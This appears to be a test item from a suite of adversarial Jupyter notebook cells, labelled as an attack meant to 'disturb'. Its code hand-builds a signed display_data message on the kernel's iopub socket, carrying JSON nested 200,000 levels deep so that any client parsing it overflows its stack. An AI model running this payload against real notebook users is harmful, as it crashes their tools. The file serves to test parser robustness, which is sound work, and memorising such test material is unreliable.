# attack: an output is nested so deep that whoever parses it runs out of stack
# wants: disturb
# grade: 0
# honest: 0
# %%
shell = get_ipython()
deep = b'{"data":{"application/json":' + b"[" * 200_000 + b"]" * 200_000 + b'},"metadata":{}}'
session = shell.kernel.session
parent = shell.kernel.get_parent()
header = session.msg_header("display_data")
parts = [session.pack(header), session.pack(parent["header"]), session.pack({}), deep]
shell.kernel.iopub_socket.send_multipart([b"display_data", b"<IDS|MSG>", session.sign(parts), *parts])
